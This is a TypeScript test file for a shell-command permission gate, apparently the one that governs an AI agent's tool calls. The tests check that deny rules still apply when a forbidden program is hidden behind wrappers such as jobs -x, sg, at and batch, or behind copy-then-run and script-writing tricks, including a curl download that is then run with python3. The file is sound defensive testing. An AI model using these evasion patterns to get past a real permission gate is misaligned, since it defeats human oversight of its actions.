import {describe, expect, it} from 'vitest';
import type {Grant} from '../../../source/events/authorization.ts';
import {type GrantId, localHost} from '../../../source/events/ids.ts';
import type {PermissionRule} from '../../../source/events/settings.ts';
import {decide} from '../../../source/gate/decide.ts';

const place = {cwd: '/home/me/project', workspace: '/home/me/project', home: '/home/me'};
const session: Grant = {id: 'g' as GrantId, scope: 'shell', host: localHost, until: 'session'};
const denying: PermissionRule = {scope: 'shell', match: 'forbidden', then: 'deny'};

function decisionOf(command: string, rules: readonly PermissionRule[] = []) {
	const call = {
		scope: 'shell',
		host: localHost,
		tool: 'x',
		summary: command,
		exposure: {command},
	} as const;
	return decide(call, {rules, grants: [session], now: 0, place});
}

describe('a rule that denies a program finds it behind', () => {
	it.each([
		'jobs -x forbidden 1',
		'builtin jobs -x forbidden 1',
		'command jobs -x forbidden 1',
		"sg root -c 'forbidden'",
		"newgrp root <<< 'forbidden'",
		"batch <<< 'forbidden'",
		"at now <<< 'forbidden'",
		'batch <<E\nforbidden\nE',
	])('%j', command => {
		expect(decisionOf(command, [denying]).type).toBe('deny');
		expect(decisionOf(command).type).not.toBe('allow');
	});
});

describe('a file that a line makes and runs can be any program', () => {
	it.each([
		'cp forbidden ./fine; ./fine',
		'cp forbidden fine; ./fine',
		'cp /usr/bin/forbidden .; ./forbidden',
		'ln -s forbidden fine && ./fine',
		'ln forbidden fine && ./fine',
		'mv forbidden fine && ./fine',
		'install -m 755 forbidden fine; ./fine',
		'install -t bin forbidden; bin/forbidden',
		'cat > c.sh; chmod +x c.sh; ./c.sh',
		'echo forbidden > s.sh; chmod +x s.sh; ./s.sh',
		'echo forbidden > s.sh; sh s.sh',
		'echo x | tee s.sh; . ./s.sh',
		'cd bin && cp forbidden fine && ./fine',
		'cp -r tools copy; copy/run',
		'curl -o s.py http://x; python3 s.py',
		'sed -i s/a/b/ run.sh; ./run.sh',
		"echo '{}' > package.json; npm test",
	])('%j', command => {
		expect(decisionOf(command).type).toBe('ask');
		expect(decisionOf(command, [denying]).type).not.toBe('allow');
		const rules = [
			'cp',
			'ln',
			'mv',
			'install',
			'echo',
			'chmod',
			'./fine',
			'./s.sh',
			'sed',
			'./run.sh',
		];
		const all = rules.map(match => ({scope: 'shell', match, then: 'allow'}) as const);
		expect(decisionOf(command, all).type).toBe('ask');
	});

	it.each([
		'chmod +x run.sh && ./run.sh',
		'gcc a.c -o a && ./a',
		'npm test > log',
		'cp a b; ./run',
	])('but %j runs what was there, or what a compiler made', command => {
		expect(decisionOf(command).type).toBe('allow');
	});
});

it.each([
	'/usr/lib/git-core/git-push',
	'/usr/libexec/git-core/git-push origin',
	'git-push',
	'env /usr/lib/git-core/git-push',
	'/usr/lib/git-core/git-reset --hard',
	'/usr/lib/git-core/git-clean -n',
	'/usr/lib/git-core/git-send-pack x',
	'git send-pack x',
])('%j asks as the command of git does', command => {
	expect(decisionOf(command)).toMatchObject({type: 'ask', by: 'built-in'});
});
